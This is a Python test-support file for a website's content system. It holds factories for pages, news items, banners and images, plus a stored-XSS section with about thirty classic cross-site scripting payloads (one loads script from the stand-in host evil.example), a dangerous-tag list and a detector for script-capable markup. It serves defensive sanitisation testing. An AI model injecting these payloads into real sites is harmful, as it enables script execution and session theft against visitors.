"""Test data and checks for the site content: pages, news, banners, images, and a stored-XSS payload set."""

from __future__ import annotations

import io
import re
import uuid
from datetime import UTC, datetime
from html.parser import HTMLParser

from PIL import Image
from sqlalchemy.orm import Session

from app.models import ActorKind, Banner, NewsItem, NewsKind, Page
from app.services.actors import Actor
from app.services.content import banners as content_banners
from app.services.content import news as content_news
from app.services.content import pages as content_pages
from app.services.content.media import ImageUpload
from tests.factories import make_customer

EDITOR = Actor(ActorKind.staff, "Редакторова Елена", staff_id=None)
SECOND_EDITOR = Actor(ActorKind.staff, "Второй Редактор", staff_id=None)


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def image_bytes(size: tuple[int, int] = (2400, 1200), fmt: str = "JPEG", colour=(30, 120, 200), **save) -> bytes:  # noqa: ANN001
    buffer = io.BytesIO()
    mode = "RGBA" if fmt == "PNG" else "RGB"
    Image.new(mode, size, colour).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def upload(data: bytes | None = None, name: str = "picture.jpg") -> ImageUpload:
    return ImageUpload(io.BytesIO(data if data is not None else image_bytes()), name)


def make_page(session: Session, **fields) -> Page:
    data = {"title": "О компании", "slug": "", "body": "Текст страницы.", "is_published": True} | fields
    page, _ = content_pages.save_page(session, data=content_pages.PageData(**data), actor=EDITOR)
    session.commit()
    return page


def make_item(
    session: Session,
    *,
    title: str | None = None,
    publish_at: datetime | None = None,
    cover: bool = False,
    actor: Actor = EDITOR,
    **fields,
) -> NewsItem:
    data = {
        "kind": NewsKind.news,
        "title": title or f"Новость {uuid.uuid4().hex[:6]}",
        "teaser": "Коротко о главном.",
        "body": "Подробности новости.",
        "publish_at": publish_at or utc(2026, 1, 1, 9),
        "is_published": True,
    } | fields
    item = content_news.save_news_item(
        session, data=content_news.NewsData(**data), actor=actor, cover=upload() if cover else None
    )
    session.commit()
    return item


def make_banner(session: Session, *, title: str = "Баннер", mobile: bool = False, **fields) -> Banner:
    data = {"title": title, "alt_text": f"{title}: описание картинки", "link": "/catalog/vizitki"} | fields
    banner = content_banners.save_banner(
        session,
        data=content_banners.BannerData(**data),
        actor=EDITOR,
        image=upload(image_bytes((1920, 480)), "banner.jpg"),
        mobile_image=upload(image_bytes((960, 720)), "banner-mobile.jpg") if mobile else None,
    )
    session.commit()
    return banner


def subscriber(session: Session, email: str, *, subscribed: bool = True, active: bool = True, name: str = ""):  # noqa: ANN201
    customer = make_customer(session, email=email, full_name=name, active=active)
    customer.newsletter_subscribed = subscribed
    session.commit()
    return customer


# ------------------------------------------------------------------------------------------------ stored XSS

# Classic payloads: script tags, event handlers, svg/math tricks, javascript: and data: URLs, style expressions.
XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss')>",
    '<img src="/media/1/large" onerror="alert(\'xss\')">',
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<a href=\"javascript:alert('xss')\">ссылка</a>",
    "[ссылка](javascript:alert('xss'))",
    "![картинка](javascript:alert('xss'))",
    "<a href=\"jav&#x09;ascript:alert('xss')\">таб</a>",
    "<a href=\" JaVaScRiPt:alert('xss')\">регистр</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">данные</a>',
    "<div style=\"background:url(javascript:alert('xss'))\">фон</div>",
    "<p style=\"width: expression(alert('xss'))\">выражение</p>",
    "<style>body{background:url(javascript:alert('xss'))}</style>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<object data=\"javascript:alert('xss')\"></object>",
    "<embed src=\"javascript:alert('xss')\">",
    "<body onload=alert('xss')>",
    "<input autofocus onfocus=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "<form action=\"javascript:alert('xss')\"><button>кнопка</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    "<base href=\"javascript:alert('xss')//\">",
    "\"><script>alert('xss')</script>",
    "'><img src=x onerror=alert('xss')>",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    '<a href="https://pechatnydvor.ru" onclick="alert(\'xss\')">клик</a>',
    "<table><tr><td background=\"javascript:alert('xss')\">ячейка</td></tr></table>",
]

DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "svg", "math", "base", "link", "form", "input",
    "button", "textarea", "select", "meta", "template", "applet", "body", "html", "details",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "content"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _compact(value: str) -> str:
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def xss_findings(markup: str, *, page: bool = False) -> list[str]:
    """Everything in the HTML that could run script: tags, handlers, script URLs, styles.

    With `page=True` the storefront's own pieces are allowed: local script files, the layout's <meta>s
    and <link>s, and its logout form.
    """
    parser = _Collector()
    parser.feed(markup)
    found = []
    for tag, attrs in parser.tags:
        values = {name: value or "" for name, value in attrs}
        own = page and (
            (tag == "script" and values.get("src", "").startswith("/static/") and len(values) == 1)
            or (tag == "meta" and "http-equiv" not in values)
            or (tag == "link" and values.get("href", "").startswith("/static/"))
            or (tag == "form" and values.get("action", "").startswith("/") and not values["action"].startswith("//"))
            or (tag in ("input", "button") and not any(n.startswith("on") for n in values))
            or tag in ("html", "body")
        )
        if tag in DANGEROUS_TAGS and not own:
            found.append(f"<{tag}>")
        for name, value in values.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name == "style":
                found.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and _compact(value).startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"<{tag} {name}={value[:30]}>")
    return found
